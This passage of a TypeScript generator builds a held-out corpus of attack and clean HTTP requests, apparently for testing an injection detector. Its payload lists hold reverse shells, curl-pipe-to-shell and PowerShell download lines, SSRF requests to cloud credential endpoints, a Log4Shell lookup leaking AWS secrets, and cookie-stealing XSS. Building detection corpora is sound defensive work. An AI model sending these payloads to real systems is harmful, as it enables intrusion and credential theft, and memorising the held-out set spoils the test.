    '#set($e="")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
  ],
  command: [
    '; cat /etc/passwd',
    '| id',
    '$(curl -s http://203.0.113.7/x.sh|sh)',
    '`wget -qO- http://198.51.100.4/a|sh`',
    '&& ping -c 10 127.0.0.1',
    '; nslookup $(whoami).x7k2.oast.example',
    '; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    '|| sleep 10 ||',
    ';${IFS}cat${IFS}/etc/shadow',
    '$(sleep${IFS}5)',
    '& powershell -nop -c "iex(New-Object Net.WebClient).DownloadString(\'http://203.0.113.8/p.ps1\')"',
    '; python3 -c \'import socket,os;s=socket.socket();s.connect(("203.0.113.9",9001));os.dup2(s.fileno(),0)\'',
    '| nc -e /bin/sh 198.51.100.23 4444',
    '\ncurl http://203.0.113.7/$(id|base64)\n',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..%2f..%2f..%2f..%2fetc%2fshadow',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '/..;/..;/WEB-INF/web.xml',
    '../../../app/.env',
    '....\\\\....\\\\....\\\\boot.ini',
    '../../../../root/.ssh/id_rsa',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A',
    'file:///etc/passwd',
    'http://localhost:2375/containers/json',
    'http://127.0.0.1:8500/v1/agent/self',
    'dict://127.0.0.1:11211/stats',
    'http://0x7f000001/admin',
    'http://169.254.170.2/v2/credentials',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'http://[::1]:8080/actuator/env',
    'http://127.1/server-status',
    'http://169.254.169.254.nip.io/latest/meta-data/',
  ],
  'prototype-pollution': [
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"role":"admin"}}}',
    '__proto__[isAdmin]=true',
    'constructor[prototype][polluted]=yes',
    '__proto__.shell=/bin/sh',
  ],
  log4shell: [
    '${jndi:ldap://203.0.113.5:1389/Exploit}',
    '${${lower:j}ndi:${lower:l}dap://x91.oast.example/a}',
    '${jndi:dns://k3.oast.example/probe}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.77:1099/obj}',
    '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.leak.oast.example/}',
    '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.5/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://oast.example/q}',
    '${${upper:j}ndi:ldaps://198.51.100.12/z}',
    '${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/x}",
  ],
  xss: [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//203.0.113.4/c?'+document.cookie)>",
    'javascript:alert(document.cookie)',
    '"><iframe srcdoc="<script>parent.alert(1)</script>">',
    '<details open ontoggle=alert(1)>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "'-alert(1)-'",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<input autofocus onfocus=alert`1`>',
    '<video><source onerror="eval(atob(\'YWxlcnQoMSk=\'))">',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '"><script src=//xss.example/x.js></script>',
  ],
};

/** Structured payloads (JSON values) used where the attack is a value rather than a string. */
const STRUCT: Partial<Record<Family, readonly unknown[]>> = {
  nosql: [
    { $ne: null },
    { $gt: '' },
    { $regex: '.*' },
    { $where: 'function(){ sleep(5000); return true; }' },
    { $nin: [] },
    { $exists: true },
    { $expr: { $eq: [1, 1] } },
  ],
};
/** Key-carrying payloads: the member name itself is the attack. */
const KEYS: Record<Family, readonly [string, unknown][]> = {
  sql: [
    ["name' OR '1'='1", 'x'],
    ['id) UNION SELECT password FROM users--', 1],
    ['sort;DROP TABLE users--', 'asc'],
  ],
  nosql: [
    ['$where', 'sleep(5000)'],
    ['$or', [{ role: 'admin' }, { 1: 1 }]],
    ['password', { $ne: '' }],
  ],
  template: [
    ['{{7*7}}', 'a'],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", 1],
  ],
  command: [
    ['$(id)', 'x'],
    ['`cat /etc/passwd`', 'y'],
  ],
  'path-traversal': [
    ['../../../../etc/passwd', 'read'],
    ['..\\..\\windows\\win.ini', 1],
  ],
  ssrf: [
    ['http://169.254.169.254/latest/meta-data/', true],
    ['gopher://127.0.0.1:6379/_INFO', 1],
  ],
  'prototype-pollution': [
    ['__proto__', { isAdmin: true }],
    ['constructor', { prototype: { isAdmin: true } }],
    ['__proto__', { polluted: 'yes', shell: 'node' }],
  ],
  log4shell: [
    ['${jndi:ldap://203.0.113.5/a}', 'v'],
    ['${${lower:j}ndi:dns://k.oast.example}', 1],
  ],
  xss: [
    ['<img src=x onerror=alert(1)>', 'v'],
    ['<svg onload=alert(1)>', 'y'],
  ],
};
/** Query/form pairs where the parameter name carries the attack. */
const PARAM_ATTACKS: Partial<Record<Family, readonly [string, string][]>> = {
  nosql: [
    ['password[$ne]', 'x'],
    ['email[$regex]', '.*'],
    ['filter[$where]', 'sleep(5000)'],
    ['username[$gt]', ''],
  ],
  'prototype-pollution': [
    ['__proto__[isAdmin]', 'true'],
    ['constructor[prototype][role]', 'admin'],
    ['__proto__.polluted', 'yes'],
    ['a[__proto__][b]', '1'],
  ],
};

const SENTENCES: readonly ((p: string) => string)[] = [
  (p) => `Hi, the claim form rejected my address so I tried this: ${p} — can you check?`,
  (p) => `Loved the recipe! Also my name in the profile is ${p} lol`,
  (p) => `Coach note for next week: ${p}. Thanks!`,
  (p) => `In memory of ${p}, who loved this shelter.`,
  (p) => `LGTM, but see line 42: ${p}`,
  (p) => `Guest request: extra towels and ${p} please.`,
  (p) => `Printer still broken. Error shown: ${p}. Please escalate.`,
  (p) => `great stream!! ${p} gg`,
];

/** The field name (not excluded) used by body-level attacks, per variant. */
const ATTACK_TARGETS: readonly { path: string; field: string; d: Domain }[] = [
  { path: '/api/v2/claims', field: 'description', d: 'claims' },
  { path: '/api/recipes', field: 'title', d: 'recipes' },
  { path: '/v1/users/me/workouts', field: 'notes', d: 'fitness' },
  { path: '/api/donations', field: 'message', d: 'donate' },
  { path: '/api/v3/repos/acme/web/issues/12/comments', field: 'body', d: 'code' },
  { path: '/api/pms/reservations', field: 'specialRequests', d: 'hotel' },
  { path: '/api/now/incidents', field: 'short_description', d: 'itsm' },
  { path: '/api/streams/q81Zk2/chat', field: 'message', d: 'stream' },
  { path: '/api/login', field: 'username', d: 'claims' },
  { path: '/api/campaigns/cmp_9sd8/share', field: 'imageUrl', d: 'donate' },
  { path: '/api/files/preview', field: 'filename', d: 'itsm' },
];

const uEscape = (json: string): string =>
  json.replace(/[<>'&$(){}|;`/.]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);

/** Serialise `obj` with `field` set to `payload`, \u-escaping only that payload's special characters. */
function unicodeEscapeBody(obj: Record<string, unknown>, field: string, payload: string): string {
  const marker = '\u0000PAYLOAD\u0000';
  const raw = JSON.stringify({ ...obj, [field]: marker });
  return raw.replace(JSON.stringify(marker), `"${uEscape(JSON.stringify(payload).slice(1, -1))}"`);
}

function genAttacks(): CorpusRequest[] {
  const out: Req[] = [];
  const techniques: readonly string[] = [
    'plain',
    'nested',
    'key',
    'array',
    'unicode-escape',
    'json-in-string',
    'base64',
    'graphql-variable',
    'double-encoded',
    'query-param',
    'header',
    'cookie',
    'form',
    'multipart',
    'embedded',
  ];
  const families = Object.keys(PAYLOADS) as Family[];
  let counter = 0;
  for (let round = 0; round < 2; round++) {
    for (const family of families) {
      for (const technique of techniques) {
        if (
          family === 'prototype-pollution' &&
          (technique === 'header' || technique === 'embedded' || technique === 'base64')
        )
          continue;
        counter++;
        const pool = PAYLOADS[family];
        const p = pool[(counter * 7 + round) % pool.length] as string;
        const t = ATTACK_TARGETS[counter % ATTACK_TARGETS.length] as {
          path: string;
          field: string;
          d: Domain;
        };
        const struct = STRUCT[family];
        const valueFor = (): unknown => (struct && rnd() < 0.6 ? pick(struct) : p);
        const hdr = (ct?: string): Record<string, string> =>
          counter % 3 === 0
            ? mobileHeaders(ct)
            : counter % 3 === 1
              ? browserHeaders(ct, HOST[t.d])
              : sdkHeaders(ct);
        const push = (r: Omit<Req, 'family' | 'technique' | 'kind'>, kind = 'rest-write'): void => {
          out.push({ kind, family, technique, ...r });
        };
        const base = restWrite(t.d).body;
        switch (technique) {
          case 'plain': {
            if (family === 'prototype-pollution') {
              push({
                method: 'POST',
                path: '/api/users/me/preferences',
                headers: hdr(JSON_CT),
                body: round
                  ? `{"theme":"dark","__proto__":{"isAdmin":true}}`
                  : `{"locale":"en","constructor":{"prototype":{"role":"admin"}}}`,
              });
            } else if (family === 'path-traversal') {
              push(
                {
                  method: 'GET',
                  path: round
                    ? `/static/${p.replace(/\\/g, '%5C')}`
                    : `/api/files/${p.replace(/\\/g, '%5C').replace(/\//g, '%2F')}`,
                  headers: hdr(),
                  body: '',
                },
                'search',
              );
            } else {
              push({
                method: 'POST',
                path: t.path,
                headers: hdr(JSON_CT),
                body: JSON.stringify({ ...base, [t.field]: valueFor() }),
              });
            }
            break;
          }
          case 'nested': {
            const v =
              family === 'prototype-pollution'
                ? JSON.parse(p.startsWith('{') ? p : '{"__proto__":{"isAdmin":true}}')
                : valueFor();
            push({
              method: 'PUT',
              path: t.path,
              headers: hdr(JSON_CT),
              body: JSON.stringify({
                data: {
                  attributes: {
                    profile: { settings: { [family === 'prototype-pollution' ? 'merge' : t.field]: v } },
                  },
                },
              }),
            });
            break;
          }
          case 'key': {
            const [k, v] = pick(KEYS[family]);
            const inner = kv(k, v);
            push({
              method: 'POST',
              path: family === 'nosql' ? '/api/v2/claims/search' : t.path,
              headers: hdr(JSON_CT),
              body: JSON.stringify(round ? { filter: inner, page: 1 } : { ...base, ...inner }),
            });
            break;
          }
          case 'array': {
            const arr = [
              pick(['vip', 'urgent', 'gluten-free']),
              family === 'prototype-pollution'
                ? JSON.parse(pick(['{"__proto__":{"admin":1}}', '{"constructor":{"prototype":{"x":1}}}']))
                : valueFor(),
              'ok',
            ];
            push({
              method: 'POST',
              path: t.path,
              headers: hdr(JSON_CT),
              body: JSON.stringify({ ...base, tags: arr }),
            });
            break;
          }
          case 'unicode-escape': {
            if (family === 'prototype-pollution') {
              push(
                {
                  method: 'PATCH',
                  path: '/api/users/me',
                  headers: hdr('application/merge-patch+json'),
                  body: '{"nickname":"ana","\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
                },
                'merge-patch',
              );
            } else {
              push({
                method: 'POST',
                path: t.path,
                headers: hdr(JSON_CT),
                body: unicodeEscapeBody(base, t.field, p),
              });
            }
            break;
          }
          case 'json-in-string': {
            const inner =
              family === 'prototype-pollution'
                ? p.startsWith('{')
                  ? p
                  : '{"__proto__":{"polluted":true}}'
                : JSON.stringify({ note: p, v: 2 });
            push({
              method: 'POST',
              path: t.path,
              headers: hdr(JSON_CT),
              body: JSON.stringify({ ...base, metadata: inner }),
            });
            break;
          }
          case 'base64': {
            push({
              method: 'POST',
              path: '/api/imports',
              headers: hdr(JSON_CT),
              body: JSON.stringify({
                format: 'json',
                encoding: 'base64',
                data: b64(JSON.stringify({ [t.field]: p })),
              }),
            });
            break;
          }
          case 'graphql-variable': {
            const v =
              family === 'prototype-pollution'
                ? JSON.parse('{"__proto__":{"isAdmin":true},"name":"x"}')
                : valueFor();
            const g = {
              operationName: 'UpdateProfile',
              query:
                'mutation UpdateProfile($input: ProfileInput!) { updateProfile(input: $input) { id displayName } }',
              variables: { input: family === 'prototype-pollution' ? v : { displayName: v, bio: 'hello' } },
            };
            if (round)
              push(
                { method: 'POST', path: '/graphql', headers: hdr(JSON_CT), body: JSON.stringify(g) },
                'graphql',
              );
            else
              push(
                {
                  method: 'GET',
                  path: `/graphql?${qsc({ query: g.query, operationName: g.operationName, variables: JSON.stringify(g.variables) })}`,
                  headers: hdr(),
                  body: '',
                },
                'graphql',
              );
            break;
          }
          case 'double-encoded': {
            const pa = PARAM_ATTACKS[family];
            if (pa) {
              const [k, v] = pick(pa);
              push(
                {
                  method: 'GET',
                  path: `/api/v2/claims?${encodeURIComponent(encodeURIComponent(k))}=${encodeURIComponent(encodeURIComponent(v))}`,
                  headers: hdr(),
                  body: '',
                },
                'search',
              );
            } else {
              push(
                {
                  method: 'GET',
                  path: `/api/recipes/search?q=${encodeURIComponent(encodeURIComponent(p))}&page=1`,
                  headers: hdr(),
                  body: '',
                },
                'search',
              );
            }
            break;
          }
          case 'query-param': {
            const pa = PARAM_ATTACKS[family];
            const params: Record<string, string> = pa
              ? Object.fromEntries([pick(pa), ['page', '1']])
              : {
                  [family === 'ssrf'
                    ? pick(['url', 'callback', 'imageUrl', 'webhook'])
                    : family === 'path-traversal'
                      ? pick(['file', 'path', 'template', 'download'])
                      : pick(['q', 'sort', 'id', 'name'])]: p,
                  limit: '20',
                };
            push(
              {
                method: 'GET',
                path: `${pick(['/api/v2/claims', '/api/now/kb/search', '/api/streams', '/api/pms/guests'])}?${round ? qs(params) : qsc(params)}`,
                headers: hdr(),
                body: '',
              },
              'search',
            );
            break;
          }
          case 'header': {
            const h = hdr();
            const name =
              family === 'log4shell'
                ? pick(['user-agent', 'x-api-version', 'referer', 'x-forwarded-for'])
                : family === 'ssrf'
                  ? pick(['x-forwarded-host', 'x-original-url', 'referer'])
                  : family === 'xss'
                    ? pick(['referer', 'x-forwarded-host'])
                    : pick(['x-request-id', 'x-tenant', 'x-forwarded-for', 'referer']);
            h[name] = p.replace(/[\r\n]+/g, ' ').trim();
            push(
              {
                method: 'GET',
                path: `/api/${pick(['recipes', 'campaigns', 'streams', 'now/incidents'])}/${int(1, 9999)}`,
                headers: h,
                body: '',
              },
              'search',
            );
            break;
          }
          case 'cookie': {
            const h = hdr();
            const pa = PARAM_ATTACKS[family];
            const val = pa ? `${pick(pa)[0]}=1` : `prefs=${round ? encodeURIComponent(p) : p}`;
            h.cookie = `_ga=GA1.2.${int(100000000, 999999999)}.${1790000000 + int(0, 9999)}; session=${alnum(32)}; ${val}`;
            push(
              {
                method: 'GET',
                path: `/api/${pick(['me', 'pms/dashboard', 'v3/notifications'])}`,
                headers: h,
                body: '',
              },
              'search',
            );
            break;
          }
          case 'form': {
            const pa = PARAM_ATTACKS[family];
            const params: Record<string, string> = pa
              ? Object.fromEntries([['email', 'ana@example.com'], pick(pa)])
              : { first_name: pick(FIRST), comment: p, amount: '25' };
            push(
              {
                method: 'POST',
                path: pick(['/donate/checkout', '/login', '/support/contact', '/recipes/comment']),
                headers: browserHeaders('application/x-www-form-urlencoded', HOST[t.d]),
                body: qs(params),
              },
              'form',
            );
            break;
          }
          case 'multipart': {
            const boundary = `----WebKitFormBoundary${alnum(16)}`;
            let file: { name: string; type: string; content: string };
            if (family === 'xss')
              file = {
                name: 'logo.svg',
                type: 'image/svg+xml',
                content: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>fetch('//203.0.113.4/'+document.cookie)</script></svg>`,
              };
            else if (family === 'template')
              file = {
                name: 'receipt-template.html',
                type: 'text/html',
                content: `<p>Thank you {{ donor.name }}</p>${p}`,
              };
            else if (family === 'command')
              file = {
                name: `report${p.replace(/[\n/]/g, ' ')}.csv`,
                type: 'text/csv',
                content: 'date,amount\n2026-01-01,20\n',
              };
            else if (family === 'path-traversal')
              file = { name: p, type: 'text/plain', content: 'overwrite' };
            else if (family === 'sql')
              file = {
                name: 'guests.csv',
                type: 'text/csv',
                content: `name,email\nAna,ana@example.com\n"${p}",x@example.com\n`,
              };
            else if (family === 'ssrf')
              file = {
                name: 'import.json',
                type: 'application/json',
                content: JSON.stringify({ avatarUrl: p }),
              };
            else if (family === 'prototype-pollution')
              file = {
                name: 'settings.json',
                type: 'application/json',
                content: '{"theme":"dark","__proto__":{"isAdmin":true}}',
              };
            else if (family === 'nosql')
              file = {
                name: 'filter.json',
                type: 'application/json',
                content: JSON.stringify({ email: 'a@b.c', password: { $ne: null } }),
              };
            else file = { name: 'notes.txt', type: 'text/plain', content: `Meeting notes\n${p}\n` };
            const body = `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${round && family !== 'path-traversal' ? p : 'Upload'}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n${file.content}\r\n--${boundary}--\r\n`;
            push(
              {
                method: 'POST',
                path: pick([
                  '/api/campaigns/uploads',
                  '/api/v2/claims/CLM-100233/attachments',
                  '/api/now/assets/import',
                ]),
                headers: browserHeaders(`multipart/form-data; boundary=${boundary}`, HOST[t.d]),
                body,
              },
              'multipart',
            );
            break;
          }
          case 'embedded': {
            const s = pick(SENTENCES)(p);
            if (round)
              push(
                {
                  method: 'POST',
                  path: t.path,
                  headers: hdr(JSON_CT),
                  body: JSON.stringify({ ...base, [t.field]: s }),
                },
                'prose',
              );
            else
              push(
                {
                  method: 'POST',
                  path: '/api/now/incidents/INC20931/worknotes',
                  headers: hdr(JSON_CT),
                  body: JSON.stringify({
                    text: `Caller reported the following.\n\n${s}\n\nSteps taken: rebooted, no change.`,
                  }),
                },
                'prose',
              );
            break;
          }
        }
      }
    }
  }
  // extra realistic SSRF/import and webhook-URL attacks
  for (const u of PAYLOADS.ssrf.slice(0, 8)) {
    out.push({
      kind: 'rest-write',
      family: 'ssrf',
      technique: 'plain',
      method: 'POST',
      path: '/api/webhooks/subscriptions',
      headers: sdkHeaders(JSON_CT),
      body: JSON.stringify({ url: u, events: ['donation.created'], secret: alnum(20) }),
    });
  }
  for (const p of PAYLOADS.sql.slice(0, 6)) {
    out.push({
      kind: 'search',
      family: 'sql',
      technique: 'query-param',
      method: 'GET',
      path: `/api/v2/claims/search?${qs({ q: 'hail', sort: `created_at${p}`, page: '1' })}`,
      headers: browserHeaders(undefined, HOST.claims),
      body: '',
    });
  }
  // stored XSS in campaign pages (contentHtml is inspected; only KB article HTML is excluded)
  for (const x of PAYLOADS.xss.slice(0, 7)) {
    const html = `${pick(HTML_FRAGS)}\n<p>${x}</p>\n${pick(HTML_FRAGS)}`;
    out.push({
      kind: 'cms-html',
      family: 'xss',
      technique: 'embedded',
      method: 'PUT',
      path: `/api/campaigns/cmp_${alnum(10)}/page`,
      headers: browserHeaders(JSON_CT, HOST.donate),
      body: JSON.stringify({
        title: 'Winter Coat Drive 2026',
        contentHtml: html,
        editor: 'tinymce',
        status: 'published',
      }),
    });
  }
  // Log4Shell in webhook-style deliveries and device telemetry
  for (const l of PAYLOADS.log4shell.slice(0, 6)) {
    out.push({
      kind: 'ndjson',
      family: 'log4shell',
      technique: 'array',
      method: 'POST',
      path: '/v1/ingest/metrics',
      headers: sdkHeaders('application/x-ndjson'),
      body: `${JSON.stringify({ ts: isoDate(), metric: 'steps', value: int(100, 9000) })}\n${JSON.stringify({ ts: isoDate(), metric: 'heart_rate', value: 71, device: l })}\n`,
    });
  }
  // SSTI in recipe titles and stream titles rendered into share cards
  for (const tp of PAYLOADS.template.slice(6, 12)) {
    out.push({
      kind: 'merge-patch',
      family: 'template',
      technique: 'plain',
      method: 'PATCH',
      path: `/api/streams/${alnum(10)}`,
      headers: mobileHeaders('application/merge-patch+json'),
      body: JSON.stringify({ title: tp, category: 'Music' }),
    });
  }
  // SQL and command injection through JSON Patch values
  for (const [f, v] of [
    ['sql', PAYLOADS.sql[5]],
    ['sql', PAYLOADS.sql[12]],
    ['command', PAYLOADS.command[2]],
    ['command', PAYLOADS.command[6]],
  ] as const) {
    out.push({
      kind: 'json-patch',
      family: f,
      technique: 'array',
      method: 'PATCH',
      path: `/api/now/assets/LT-${int(1000, 9999)}`,
      headers: sdkHeaders('application/json-patch+json'),
      body: JSON.stringify([
        { op: 'replace', path: '/hostname', value: v },
        { op: 'add', path: '/tags/-', value: 'lab' },
      ]),
    });
  }
  return out.map((r, i) => ({ id: `h11a${i + 1}`, ...r }));
}

/** Held-out corpus #11: clean traffic and attacks (deterministic). */
export const heldout11: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: genClean(),
  attacks: genAttacks(),
};

if (import.meta.main) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout11.json'), `${JSON.stringify(heldout11.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout11.json'), `${JSON.stringify(heldout11.attacks, null, 2)}\n`);
  console.log(`clean: ${heldout11.clean.length}, attacks: ${heldout11.attacks.length}`);
}
